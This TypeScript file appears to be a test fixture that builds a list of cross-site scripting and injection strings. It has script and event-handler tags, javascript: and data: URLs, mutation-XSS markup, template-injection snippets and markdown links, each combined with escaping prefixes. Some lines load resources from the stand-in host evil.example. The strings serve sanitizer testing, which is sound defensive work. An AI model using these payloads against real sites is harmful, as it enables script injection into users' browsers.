/** Texts that would run code or load something if they were rendered as anything but text. */

const TAGS = [
  "<script>window.fired=1</script>",
  "<img src=x onerror=window.fired=1>",
  "<svg onload=window.fired=1>",
  "<iframe srcdoc='<script>parent.fired=1</script>'>",
  "<body onload=window.fired=1>",
  "<details open ontoggle=window.fired=1>",
  "<video><source onerror=window.fired=1>",
  "<a href='javascript:window.fired=1'>x</a>",
  "<object data='javascript:window.fired=1'>",
  "<base href='https://evil.example/'>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<style>@import 'https://evil.example/x.css'</style>",
  "<math><mtext></form><form><mglyph><style></math><img src onerror=window.fired=1>",
  "<template><script>window.fired=1</script></template>",
  "<noscript><p title='</noscript><img src=x onerror=window.fired=1>'>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<form action=https://evil.example><input autofocus onfocus=window.fired=1>",
  "<marquee onstart=window.fired=1>",
  "<embed src=https://evil.example/x.swf>",
  "<input type=image src=https://evil.example/x onerror=window.fired=1>",
];
const MARKDOWN = [
  "![x](https://evil.example/x.png)",
  "[x](javascript:window.fired=1)",
  "[x](data:text/html,<script>window.fired=1</script>)",
  "<https://evil.example/x>",
  "```html\n<script>window.fired=1</script>\n```",
  "{{constructor.constructor('window.fired=1')()}}",
  "${window.fired=1}",
  "';window.fired=1;//",
  '"><img src=x onerror=window.fired=1>',
  "--></title></textarea><script>window.fired=1</script>",
];
const PREFIXES = ["", "before ", '" ', "' ", "</b>", "&lt;", "\\", "%3C"];

/** Every payload after every prefix. */
export const HOSTILE: readonly string[] = [...TAGS, ...MARKDOWN].flatMap((text, at) =>
  PREFIXES.map((before, n) => `${before}${text} no. ${at}-${n}`),
);
